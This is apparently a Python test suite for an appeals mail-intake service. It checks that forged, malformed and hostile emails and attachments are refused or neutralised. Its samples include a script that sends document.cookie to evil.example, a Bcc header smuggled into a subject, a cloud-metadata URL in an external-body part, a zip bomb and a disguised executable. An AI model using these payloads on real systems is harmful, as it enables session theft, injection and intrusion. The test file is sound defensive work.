"""Mails that somebody sends to do harm: each by its name, with what becomes of it and why (requirements C2, G1)."""

import io
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

import pytest

from goodstanding.core.terms import ActionKind, MailCause, MailVerdict, NoticeKind
from goodstanding.server.mailroom.addresses import reply_address
from goodstanding.server.services import ledger
from goodstanding.server.services.incoming import Taken
from goodstanding.server.store.models import Appeal, Case, Evidence, IncomingMail, Notice
from tests import made_files
from tests.server.factories import NOW
from tests.server.mailroom.mailing import DISPUTE, EVIL, HOME, REPLIES, SELLER, files, make_case, reading_pack, reply_to, send, signed, write

pytestmark = pytest.mark.django_db

ACCEPTED, HELD, IGNORED, REFUSED = MailVerdict.ACCEPTED, MailVerdict.HELD, MailVerdict.IGNORED, MailVerdict.REFUSED


@dataclass(frozen=True)
class Hostile:
    """One mail, made for a case: how it is written and sent, and what becomes of it."""

    name: str
    write: Callable[[Case], bytes]
    verdict: MailVerdict
    cause: MailCause
    send: dict[str, Any] = field(default_factory=dict)

    def __str__(self) -> str:
        return self.name


def honest(case: Case, **options: Any) -> bytes:
    return write(reply_to(case), **options)


def zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * 50_000_000)
    return packed.getvalue()


def nested(case: Case, depth: int) -> bytes:
    body = b"".join(b"Content-Type: message/rfc822\r\n\r\n" for _ in range(depth)) + b"From: a@b.example\r\n\r\ndeep\r\n"
    return write(reply_to(case), body)


def html(case: Case) -> bytes:
    page = "<p>We never sold fakes.</p><script>fetch('https://evil.example/'+document.cookie)</script><img src=https://evil.example/pixel onerror=alert(1)>"
    return write(reply_to(case), f"Content-Type: text/html; charset=utf-8\r\n\r\n{page}\r\n".encode())


def other_token(case: Case) -> str:
    return reply_to(case).replace(reply_to(case)[12], "z" if reply_to(case)[12] != "z" else "y", 1)


def expired(case: Case) -> str:
    return reply_address(case_id=case.case_id, expires_at=NOW - timedelta(days=2))


EVIL_SERVER = {"peer": EVIL, "mail_from": "x@evil.example"}
HOSTILE = [
    # who it pretends to be
    Hostile(
        "forged From, nothing else",
        lambda c: write("standing@market.example", sign=""),
        REFUSED,
        MailCause.NO_CASE,
        {"to": "standing@market.example"} | EVIL_SERVER,
    ),
    Hostile(
        "forged From with a leaked address, the forger's own DKIM and SPF",
        lambda c: honest(c, sign="evil.example"),
        HELD,
        MailCause.UNPROVED,
        EVIL_SERVER,
    ),
    Hostile("forged From without any proof", lambda c: honest(c, sign=""), HELD, MailCause.UNPROVED),
    Hostile(
        "display name that is the registered address",
        lambda c: honest(c, sender=f'"{SELLER}" <x@evil.example>', sign="evil.example"),
        HELD,
        MailCause.OTHER_SENDER,
        EVIL_SERVER,
    ),
    Hostile("look-alike domain", lambda c: honest(c, sender="li@se1ler.example", sign="se1ler.example"), HELD, MailCause.OTHER_SENDER),
    Hostile("homograph in raw letters", lambda c: honest(c, sender="li@s\u0435ller.example", sign="evil.example"), HELD, MailCause.OTHER_SENDER),
    Hostile(
        "homograph as xn--", lambda c: honest(c, sender="li@xn--seller-8ve.example", sign="xn--seller-8ve.example"), HELD, MailCause.OTHER_SENDER
    ),
    Hostile("subaddress of the registered one", lambda c: honest(c, sender="li+x@seller.example"), HELD, MailCause.OTHER_SENDER),
    Hostile("two From headers", lambda c: b"From: x@evil.example\r\n" + honest(c), REFUSED, MailCause.SENDERS),
    Hostile("two From headers, one without an address", lambda c: b"From: Li\r\n" + honest(c), REFUSED, MailCause.SENDERS),
    Hostile("two addresses in one From", lambda c: honest(c, sender=f"{SELLER}, x@evil.example"), REFUSED, MailCause.SENDERS),
    Hostile("empty From", lambda c: honest(c, sender="", sign=""), REFUSED, MailCause.SENDERS),
    Hostile("null address in From", lambda c: honest(c, sender="<>", sign=""), REFUSED, MailCause.SENDERS),
    # the address it goes to
    Hostile(
        "wrong token", lambda c: write(other_token(c)), HELD, MailCause.NO_TOKEN, {"to": "appeals+c-aaaaaaaaaaaa.4fff.aaaaaaaaaaaaaaaa@" + REPLIES}
    ),
    Hostile("expired token", lambda c: write(expired(c)), HELD, MailCause.EXPIRED_TOKEN, {"to": "expired"}),
    Hostile("token of somebody else's case", lambda c: honest(c, sender="other@seller.example"), HELD, MailCause.OTHER_SENDER),
    Hostile(
        "thread of a letter, but no token",
        lambda c: write("standing@market.example", extra=f"In-Reply-To: {Notice.objects.filter(case=c)[0].message_id}\r\n"),
        HELD,
        MailCause.NO_TOKEN,
        {"to": "standing@market.example"},
    ),
    # signatures
    Hostile(
        "DKIM with l= and a body added", lambda c: honest(c, options={"length": True}) + b"And I admit everything.\r\n", HELD, MailCause.UNPROVED
    ),
    Hostile("DKIM with l= over nothing", lambda c: honest(c, options={"length": True}).replace(b" l=", b" l=0; xl=", 1), HELD, MailCause.UNPROVED),
    Hostile("body changed after signing", lambda c: honest(c).replace(b"never sold", b"often sold"), HELD, MailCause.UNPROVED),
    Hostile("subject changed after signing", lambda c: honest(c).replace(b"Re: your account", b"Re: other account"), HELD, MailCause.UNPROVED),
    Hostile(
        "signature that leaves the subject out", lambda c: honest(c, options={"include_headers": [b"from", b"to", b"date"]}), HELD, MailCause.UNPROVED
    ),
    Hostile("signature by rsa-sha1", lambda c: honest(c, options={"signature_algorithm": b"rsa-sha1"}), HELD, MailCause.UNPROVED),
    Hostile(
        "Authentication-Results that the sender wrote",
        lambda c: honest(c, sign="", extra="Authentication-Results: mx.market.example; spf=pass smtp.mailfrom=seller.example; dkim=pass\r\n"),
        HELD,
        MailCause.UNPROVED,
    ),
    Hostile("brought by a server of our own house", lambda c: honest(c, sign=""), HELD, MailCause.UNPROVED, {"peer": "127.0.0.1"}),
    # machines
    Hostile("vacation reply", lambda c: honest(c, extra="Auto-Submitted: auto-replied\r\n"), IGNORED, MailCause.AUTOMATIC),
    Hostile("automatic reply told by its subject", lambda c: honest(c, subject="Automatic reply: your account"), IGNORED, MailCause.AUTOMATIC),
    Hostile("mailing list", lambda c: honest(c, extra="List-Id: <all.seller.example>\r\nPrecedence: list\r\n"), IGNORED, MailCause.BULK),
    Hostile("null envelope sender", lambda c: honest(c), IGNORED, MailCause.AUTOMATIC, {"mail_from": "<>"}),
    Hostile(
        "bounce that is none of ours",
        lambda c: honest(
            c, sender="mailer-daemon@evil.example", sign="", body="Content-Type: text/plain\r\n\r\nMessage-ID: <x@y>\r\nAction: failed\r\n"
        ),
        IGNORED,
        MailCause.BOUNCE,
    ),
    # what it holds
    Hostile("null bytes in the header", lambda c: honest(c, subject="a\0b", sign=""), REFUSED, MailCause.UNREADABLE),
    Hostile("a thousand mails in one another", lambda c: nested(c, 1000), REFUSED, MailCause.SENDERS),
    Hostile("nothing but a quote", lambda c: honest(c, body="> our letter\n> goes on"), HELD, MailCause.EMPTY),
]
"""What is refused, held or left alone, and leads to nothing."""


@pytest.fixture(autouse=True)
def _answerable(settings) -> None:
    settings.REPLY_DOMAIN = REPLIES


@pytest.fixture
def reading() -> Any:
    return reading_pack()


def post(case: Case, pack: Any, hostile: Hostile) -> Taken:
    raw = hostile.write(case)
    options = dict(hostile.send)
    if options.get("to") == "expired":
        options["to"] = expired(case)
    return send(case, pack, raw, **options)


@pytest.mark.parametrize("hostile", HOSTILE, ids=str)
def test_a_hostile_mail_changes_nothing_and_says_why(hostile: Hostile, reading: Any) -> None:
    case = make_case()
    before = (case.state, case.attempts)
    taken = post(case, reading, hostile)
    assert (taken.verdict, taken.cause) == (hostile.verdict, hostile.cause)
    case.refresh_from_db()
    assert (case.state, case.attempts) == before
    assert not Appeal.objects.exists()
    assert not Evidence.objects.exists()
    # Whoever wrote it, the only address that hears of it is the registered one.
    told = Notice.objects.exclude(kind=NoticeKind.ACTION)
    assert set(told.values_list("recipient", flat=True)) <= {SELLER}
    assert {one.kind for one in told} <= ({NoticeKind.MAIL_HELD} if hostile.verdict == HELD else set())
    assert IncomingMail.objects.count() == (hostile.verdict != REFUSED)
    assert list(ledger.verify()) == []


def test_there_are_at_least_thirty_of_them() -> None:
    assert len({hostile.name for hostile in HOSTILE}) == len(HOSTILE) >= 30


NEUTRALISED = {
    "script in HTML": html,
    "header lines smuggled into the subject": lambda c: honest(c, subject="=?utf-8?q?Re:_x=0D=0ABcc:_all@seller.example?="),
    "subject of a million signs": lambda c: honest(c, subject="A" * 900 + "\r\n " + "\r\n ".join("B" * 900 for _ in range(1000))),
    "null bytes in the body": lambda c: honest(c, body=b"Content-Type: text/plain\r\n\r\nThis did not happen:\0 we never sold fakes.\r\n"),
    "a charset that does not exist": lambda c: honest(
        c, body=b'Content-Type: text/plain; charset="x-bomb-' + b"9" * 5000 + b'"\r\n\r\nThis did not happen: we never sold fakes.\r\n'
    ),
    "UTF-7 that hides a tag": lambda c: honest(
        c, body=b"Content-Type: text/plain; charset=utf-7\r\n\r\nThis did not happen, we never sold fakes. +ADw-script+AD4-\r\n"
    ),
    "a body on another server": lambda c: honest(
        c,
        body=b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nThis did not happen: we never sold fakes.\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL="http://169.254.169.254/"\r\n\r\nContent-Type: image/png\r\n\r\n--b--\r\n',
    ),
    "a multipart without boundary": lambda c: honest(
        c, body=b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n\r\nThis did not happen: we never sold fakes.\r\n"
    ),
    "thousands of empty parts": lambda c: honest(
        c,
        body=b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nThis did not happen: we never sold fakes.\r\n"
        + b"--b\r\n\r\nx\r\n" * 5000
        + b"--b--\r\n",
    ),
    "a quote of a hundred thousand lines": lambda c: honest(c, body=DISPUTE + "\n" + "> x\n" * 100_000),
}
"""What is taken for what it says, and can do no harm."""


@pytest.mark.parametrize("name", NEUTRALISED)
def test_a_hostile_content_is_taken_as_harmless_words(name: str, reading: Any) -> None:
    case, began = make_case(), time.process_time()
    taken = send(case, reading, NEUTRALISED[name](case))
    assert time.process_time() - began < 10
    assert taken.verdict == ACCEPTED, taken
    row = IncomingMail.objects.get()
    kept = row.text + row.subject
    assert "\0" not in kept
    assert "<script" not in kept or "UTF-7" in name
    assert "\n" not in row.subject
    assert "\r" not in row.subject
    assert len(row.subject) <= 500
    for notice in Notice.objects.all():
        assert b"\nBcc:" not in bytes(notice.message)


REFUSED_FILES = {
    "zip bomb": ("big.zip", "application/zip", zip_bomb, "archive"),
    "winmail.dat": ("winmail.dat", "application/ms-tnef", lambda: b"\x78\x9f\x3e\x22\x01\x00\x06\x90\x08\x00", "not allowed"),
    "calendar that is a web page": ("invite.ics", "text/calendar", lambda: b"<html><script>alert(1)</script></html>", "markup"),
    "program named as an invoice": ("invoice.pdf", "application/pdf", lambda: b"MZ\x90\0" + b"\0" * 100, "program"),
    "PDF with a script": ("invoice.pdf", "application/pdf", made_files.pdf_with_script, "active"),
    "drawing with a script": ("logo.svg", "image/svg+xml", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "markup"),
    "file that is too large": ("scan.txt", "text/plain", lambda: b"x" * 2_000_000, "too large"),
}


@pytest.mark.parametrize("name", REFUSED_FILES)
def test_a_hostile_file_is_refused_with_the_reason_and_the_rest_is_kept(name: str, reading: Any, settings: Any) -> None:
    settings.EVIDENCE_MAX_BYTES = 1_000_000
    case, (file, kind, content, why) = make_case(), REFUSED_FILES[name]
    good = ("invoice.pdf", "application/pdf", made_files.pdf())
    raw = write(reply_to(case), files((file, kind, content()), ("proof.pdf", *good[1:])))
    assert send(case, reading, raw).verdict == ACCEPTED
    appeal = Appeal.objects.get()
    assert [one.name for one in appeal.evidence.all()] == ["proof.pdf"]
    (told,) = Notice.objects.filter(kind=NoticeKind.FILES_REFUSED)
    assert file in told.body
    assert f"file {why}" in told.body


def test_what_is_too_much_for_a_case_is_left_out_and_its_sender_told(reading: Any, settings: Any) -> None:
    settings.EVIDENCE_MAX_CASE_BYTES = len(made_files.pdf()) + 10
    case = make_case()
    raw = write(reply_to(case), files(*((f"{n}.pdf", "application/pdf", made_files.pdf(n)) for n in (1, 2))))
    assert send(case, reading, raw).verdict == ACCEPTED
    assert [one.name for one in Appeal.objects.get().evidence.all()] == ["1.pdf"]
    assert "file case full most=0 name=2.pdf" in Notice.objects.get(kind=NoticeKind.FILES_REFUSED).body


def test_a_mail_that_is_too_large_is_refused_before_it_is_read(reading: Any, settings: Any) -> None:
    settings.MAIL_MAX_BYTES = 10_000
    case = make_case()
    taken = send(case, reading, write(reply_to(case), "x" * 20_000))
    assert (taken.verdict, taken.cause) == (REFUSED, MailCause.TOO_LARGE)
    assert not IncomingMail.objects.exists()


def test_a_replayed_mail_counts_once_and_an_altered_copy_of_it_is_held(reading: Any) -> None:
    case = make_case()
    raw = write(reply_to(case), options={"include_headers": [b"from", b"subject"]})
    assert send(case, reading, raw).verdict == ACCEPTED
    again = send(case, reading, b"Received: from evil.example\r\n" + raw)
    assert (again.verdict, again.is_repeated) == (ACCEPTED, True)
    altered = send(case, reading, raw.replace(b"<1@seller.example>", b"<2@seller.example>"))
    assert (altered.verdict, altered.cause) == (HELD, MailCause.REPLAYED)
    assert Appeal.objects.count() == 1


def test_a_mail_for_two_cases_at_once_is_held(reading: Any) -> None:
    case, other = make_case(), make_case("else@shop.example", ActionKind.RESTRICT)
    taken = send(case, reading, write(f"{reply_to(case)}, {reply_to(other)}"), to="")
    assert (taken.verdict, taken.cause) == (HELD, MailCause.OTHER_CASE)


def test_a_hundred_forged_mails_are_answered_once(reading: Any) -> None:
    case = make_case()
    causes = [send(case, reading, honest(case, sign="", id=f"<{n}@evil.example>"), **EVIL_SERVER).cause for n in range(30)]
    assert Notice.objects.filter(kind=NoticeKind.MAIL_HELD).count() == 1
    assert causes[0] == MailCause.UNPROVED
    assert causes[-1] == MailCause.TOO_MANY


def test_our_own_letters_sent_back_to_us_start_no_loop(reading: Any) -> None:
    case = make_case()
    letter = bytes(Notice.objects.get(case=case).message)
    assert send(case, reading, letter, peer=HOME).verdict == IGNORED
    assert Notice.objects.count() == 1


def test_spf_alone_proves_an_honest_mail(reading: Any) -> None:
    case = make_case()
    assert send(case, reading, honest(case, sign=""), peer=HOME).verdict == ACCEPTED


def test_the_word_of_our_own_server_is_taken_where_it_stands_on_top(reading: Any, settings: Any) -> None:
    settings.MAIL_OWN_SERVER = "mx.market.example"
    case = make_case()
    told = "Authentication-Results: mx.market.example; spf=pass smtp.mailfrom=li@seller.example\r\n"
    assert send(case, reading, told.encode() + honest(case, sign=""), peer="").verdict == ACCEPTED
    below = b"Authentication-Results: mx.evil.example; spf=fail\r\n" + told.encode() + honest(case, sign="", id="<2@seller.example>")
    assert send(case, reading, below, peer="").cause == MailCause.UNPROVED


def test_one_of_two_signatures_that_holds_is_enough(reading: Any) -> None:
    case = make_case()
    assert send(case, reading, signed(honest(case), "evil.example")).verdict == ACCEPTED
